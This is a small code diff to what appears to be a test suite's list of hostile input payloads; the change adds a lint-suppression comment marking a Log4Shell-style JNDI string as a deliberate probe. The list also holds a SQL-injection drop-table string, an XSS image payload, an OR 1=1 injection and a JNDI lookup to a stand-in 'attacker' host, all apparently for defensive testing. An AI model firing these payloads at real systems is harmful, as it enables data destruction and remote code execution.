@@ -13,6 +13,7 @@ const payloads = [
   `Robert'); DROP TABLE "Customer"; --`,
   `<img src=x onerror=alert(1)>`,
   `' OR '1'='1`,
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log-injection probe, meant literally
   '${jndi:ldap://attacker/x}',
   '%_\\', // LIKE wildcards and an escape
   'Ștefan 😀 \u202e',
